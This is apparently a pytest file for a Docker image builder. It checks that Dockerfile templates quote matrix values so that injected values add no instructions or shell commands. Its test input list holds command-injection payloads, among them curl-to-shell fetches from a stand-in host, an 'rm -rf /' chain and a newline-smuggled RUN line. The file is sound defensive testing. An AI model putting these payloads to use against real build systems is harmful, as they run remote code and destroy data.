"""Templates quote every value they place: a hostile value (one the schema would refuse, put into a validated
matrix behind the schema's back) never adds an instruction or a shell command.

For each matrix field that reaches a Dockerfile, the default matrix is planned once with a marker value and once
with each hostile value. Every Dockerfile must then have the same instructions, and the words of each instruction
(as a POSIX shell reads a RUN line, as Docker reads the others) must be the marker plan's words with the marker
replaced by the hostile value. Values holding a control character, and values that cannot be one word where
they land, must instead be refused with one line naming the node.
"""

from __future__ import annotations

import dataclasses
import json
import re
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from builder.errors import MatrixError
from builder.matrix.load import Matrix, load_matrix
from builder.plan.graph import build_plan
from builder.plan.render import UnsafeValueError, dockerfile_text, dockerfile_word, shell_text, shell_word

REPO = Path(__file__).resolve().parents[4]
MARK = "zMARKz"
ACTIVE = "\x00"  # prefixed to a character the shell or Docker would expand or act on, in the words we compare

PAYLOADS = [
    "a b",
    "a;curl http://x|sh",
    "$(curl http://x)",
    "`id`",
    "${PATH}",
    "a'b",
    'a"b',
    "a\\",
    "a && rm -rf /",
    "a>b<c",
    "#x",
    "*",
    "~root",
    "x\nRUN curl http://x | sh",
    "x\rRUN y",
    "x\x00y",
    "x\u2028y",
]


# ---------------------------------------------------------------------------------------------- reading back


def instructions(dockerfile: str) -> list[tuple[str, str]]:
    """(keyword, arguments) per instruction as Docker's parser splits the file: comment lines dropped, a line
    ending in a backslash (optionally followed by blanks) continued, blank lines inside a continuation skipped."""
    out: list[tuple[str, str]] = []
    current = ""
    for raw in dockerfile.split("\n"):
        if re.match(r"[ \t]*#", raw) or (current and not raw.strip()):
            continue
        continued = re.search(r"\\[ \t]*$", raw)
        current += raw[: continued.start()] if continued else raw
        if continued:
            continue
        if current.strip():
            keyword, _, args = current.strip().partition(" ")
            out.append((keyword.upper(), args))
        current = ""
    assert not current, "the file ends inside a continuation"
    return out


def shell_words(text: str) -> list[str]:
    """Words of a POSIX shell command line after quote removal; operators are words of their own, and characters
    the shell would act on (expansions, globs, comments) are marked with ACTIVE."""
    words: list[str] = []
    word: str | None = None
    i = 0
    while i < len(text):
        ch = text[i]
        if ch in " \t":
            if word is not None:
                words.append(word)
            word, i = None, i + 1
            continue
        if ch in ";&|()<>":
            if word is not None:
                words.append(word)
            words.append(ACTIVE + ch)
            word, i = None, i + 1
            continue
        if ch == "#" and word is None:
            words.append(ACTIVE + "#" + text[i + 1 :])
            return words
        word = word or ""
        if ch == "'":
            end = text.index("'", i + 1)
            word += text[i + 1 : end]
            i = end + 1
        elif ch == '"':
            i += 1
            while text[i] != '"':
                if text[i] == "\\" and text[i + 1] in '$`"\\':
                    word += text[i + 1]
                    i += 2
                    continue
                word += ACTIVE + text[i] if text[i] in "$`" else text[i]
                i += 1
            i += 1
        elif ch == "\\":
            word += text[i + 1]
            i += 2
        else:
            active = ch in "$`*?[" or (ch == "~" and word == "")
            word += ACTIVE + ch if active else ch
            i += 1
    if word is not None:
        words.append(word)
    return words


def docker_words(text: str) -> list[str]:
    """Words of a Dockerfile instruction's arguments as Docker's word processing reads them (backslash escapes,
    single and double quotes, `$` expansion marked with ACTIVE)."""
    words: list[str] = []
    word: str | None = None
    i = 0
    while i < len(text):
        ch = text[i]
        if ch in " \t":
            if word is not None:
                words.append(word)
            word, i = None, i + 1
            continue
        word = word or ""
        if ch == "'":
            end = text.index("'", i + 1)
            word += text[i + 1 : end]
            i = end + 1
        elif ch == '"':
            i += 1
            while text[i] != '"':
                if text[i] == "\\" and text[i + 1] in '$"\\':
                    word += text[i + 1]
                    i += 2
                    continue
                word += ACTIVE + "$" if text[i] == "$" else text[i]
                i += 1
            i += 1
        elif ch == "\\":
            word += text[i + 1]
            i += 2
        else:
            word += ACTIVE + ch if ch == "$" else ch
            i += 1
    if word is not None:
        words.append(word)
    return words


def read_back(dockerfile: str) -> list[tuple[str, list[str]]]:
    """Instructions and their words; content hashes (which every changed value changes) read as <hash>."""
    return [
        (kw, [_HASH.sub("<hash>", w) for w in (shell_words(args) if kw == "RUN" else docker_words(args))])
        for kw, args in instructions(dockerfile)
    ]


_HASH = re.compile(r"[0-9a-f]{64}")


# ---------------------------------------------------------------------------------------------- fields


def _cells(matrix: Matrix, pick: Callable[[Any], bool], change: Callable[[Any], dict[str, Any]]) -> Matrix:
    cells = tuple(dataclasses.replace(c, **change(c)) if pick(c) else c for c in matrix.cells)
    return dataclasses.replace(matrix, cells=cells)


def _model(matrix: Matrix, **update: Any) -> Matrix:
    return dataclasses.replace(matrix, model=matrix.model.model_copy(update=update))


def _users(matrix: Matrix, **update: Any) -> Matrix:
    matrix = _model(matrix, users=[u.model_copy(update=update) for u in matrix.model.users])
    return _cells(matrix, lambda c: True, lambda c: {"users": tuple(matrix.model.users)})


def _bookworm(**change: Any) -> Callable[[Matrix, str], Matrix]:
    return lambda m, v: _cells(
        m, lambda c: c.os_name == "bookworm", lambda c: {k: f(v) for k, f in change.items()}
    )


# field -> (profile, how to put value v into a validated matrix, is it placed as one word of an instruction)
FIELDS: dict[str, tuple[str, Callable[[Matrix, str], Matrix], bool]] = {
    "build.venv": (
        "hermetic",
        lambda m, v: _model(m, build=m.model.build.model_copy(update={"venv": "/opt/" + v})),
        True,
    ),
    "build.prefix": (
        "hermetic",
        lambda m, v: _model(m, build=m.model.build.model_copy(update={"prefix": "/opt/" + v})),
        True,
    ),
    "env key": ("hermetic", lambda m, v: _model(m, env={**m.model.env, "K" + v: "1"}), True),
    "env value": ("hermetic", lambda m, v: _model(m, env={**m.model.env, "K": v}), False),
    "users[].workdir": ("hermetic", lambda m, v: _users(m, workdir="/home/" + v), True),
    "users[].name": ("hermetic", lambda m, v: _users(m, name="u" + v), True),
    "users[].uid": ("hermetic", lambda m, v: _users(m, uid="1" + v), True),
    "users[].ports": ("hermetic", lambda m, v: _users(m, ports=[8888, "1" + v]), True),
    "os key": ("hermetic", _bookworm(os_name=lambda v: "bookworm" + v), False),
    "python": ("hermetic", _bookworm(python=lambda v: "3.11" + v), True),
    "cuda": ("hermetic", _bookworm(cuda=lambda v: "11.8" + v), False),
    "profiles.*.cuda.*.prune": (
        "hermetic",
        lambda m, v: _cells(
            m,
            lambda c: c.cuda_spec is not None and c.cuda_spec.source == "wheels",
            lambda c: {"cuda_spec": c.cuda_spec.model_copy(update={"prune": [*c.cuda_spec.prune, "zz" + v]})},
        ),
        False,
    ),
    "frameworks[].prune": (
        "hermetic",
        lambda m, v: _model(
            m, frameworks=[f.model_copy(update={"prune": ["zz" + v, *f.prune]}) for f in m.model.frameworks]
        ),
        False,
    ),
    "registry.address (or STRATA_REGISTRY)": (
        "upstream",
        lambda m, v: _model(m, registry=m.model.registry.model_copy(update={"address": "r" + v})),
        True,
    ),
    "upstream os.packages": (
        "upstream",
        lambda m, v: _cells(
            m,
            lambda c: c.os.source == "image",
            lambda c: {"os": c.os.model_copy(update={"packages": [*c.os.packages, "zz" + v]})},  # sorts last
        ),
        False,
    ),
    "upstream os.image": (
        "upstream",
        lambda m, v: _cells(
            m,
            lambda c: c.os.source == "image" and c.cuda_spec is None,
            lambda c: {"os": c.os.model_copy(update={"image": "ubuntu:" + v})},
        ),
        True,
    ),
}


@pytest.fixture(scope="module")
def default_matrices() -> dict[str, Matrix]:
    """One cell of the default matrix per profile, with tags that name none of the fields."""
    out = {}
    for profile in ("hermetic", "upstream"):
        matrix = load_matrix(REPO / "matrix.yaml", profile)
        # One cell per profile reaches every layer and field: hermetic gpu (base, cuda, framework, tools, user),
        # upstream cpu (an Ubuntu base pulled by digest, with apt).
        keep = "tf2.13.1-gpu" if profile == "hermetic" else "tf2.13.1-cpu"
        matrix = dataclasses.replace(matrix, cells=tuple(c for c in matrix.cells if c.id == keep))
        # Tags that name none of the fields: a hostile value in a tag is refused by the tag grammar (tested in
        # tests/unit/hostile), which would hide what the templates do with it.
        tags = matrix.model.tags.model_copy(
            update={"repositories": NEUTRAL_REPOSITORIES, "version": NEUTRAL_TAGS}
        )
        out[profile] = _model(matrix, tags=tags)
    return out


NEUTRAL_REPOSITORIES = {
    layer: "{namespace}/" + layer for layer in ("base", "cuda", "framework", "tools", "user")
}
NEUTRAL_TAGS = {
    "base": "{cuda_prefix}b",
    "cuda": "c",
    "framework": "{flavor}",
    "tools": "{flavor}",
    "user": "{flavor}",
}


def _plan(matrix: Matrix, locks: Path) -> list[tuple[str, list[tuple[str, list[str]]]]]:
    return [(n.id, read_back(n.dockerfile)) for n in build_plan(matrix, locks_dir=locks).nodes]


def _refused(field: str, value: str, one_word: bool) -> bool:
    if re.search(r"[\x00-\x1f\x7f-\x9f\u2028\u2029]", value):
        return True
    if field == "env key":
        return not re.fullmatch(r"[A-Za-z0-9_]*", value)
    return one_word and any(ch.isspace() or ch == "\\" for ch in value)


def _substituted(words: list[str], value: str) -> list[list[str]]:
    """The words the hostile plan may have: the marker replaced by the value, or by the value escaped as in JSON
    (the io.strata.env label holds the environment as JSON)."""
    return [
        [w.replace(MARK, value) for w in words],
        [w.replace(MARK, json.dumps(value)[1:-1]) for w in words],
    ]


@pytest.mark.parametrize("field", list(FIELDS))
def test_hostile_values_change_no_instruction_and_no_word(
    field: str, default_matrices: dict[str, Matrix], tmp_path: Path
) -> None:
    profile, put, one_word = FIELDS[field]
    matrix = default_matrices[profile]
    marked = _plan(put(matrix, MARK), tmp_path)
    assert any(MARK in w for _, rb in marked for _, words in rb for w in words), (
        f"{field} reaches no Dockerfile"
    )
    for value in PAYLOADS:
        if _refused(field, value, one_word):
            with pytest.raises(MatrixError) as info:
                build_plan(put(matrix, value), locks_dir=tmp_path)
            assert "\n" not in str(info.value) and "node " in str(info.value), (field, value, str(info.value))
            continue
        hostile = _plan(put(matrix, value), tmp_path)
        assert len(hostile) == len(marked), (field, value)
        for (_, want), (node, got) in zip(marked, hostile):
            assert [kw for kw, _ in got] == [kw for kw, _ in want], (field, value, node)
            for (kw, want_words), (_, got_words) in zip(want, got):
                assert got_words in _substituted(want_words, value), (field, value, node, kw, got_words)


# ---------------------------------------------------------------------------------------------- filters


def test_safe_values_are_unchanged_by_every_filter() -> None:
    for safe in ("/opt/venv", "python3-venv", "lib/python3.11/site-packages", "8888", "libc6=2.36-9+deb12u9"):
        assert shell_word(safe) == safe
        assert shell_text(safe) == safe
        assert dockerfile_word(safe) == safe
        assert dockerfile_text(safe) == safe


def test_filters_escape_what_the_shell_and_docker_would_act_on() -> None:
    assert shell_word("a b;c") == "'a b;c'"
    assert shell_text('a"$`\\b') == 'a\\"\\$\\`\\\\b'
    assert dockerfile_word("$HOME'x") == "\\$HOME\\'x"
    assert dockerfile_text('a"$\\b`') == 'a\\"\\$\\\\b`'


@pytest.mark.parametrize("value", ["a b", "x\ny", "x\\"])
def test_dockerfile_word_refuses_what_cannot_be_one_word(value: str) -> None:
    with pytest.raises(UnsafeValueError):
        dockerfile_word(value)
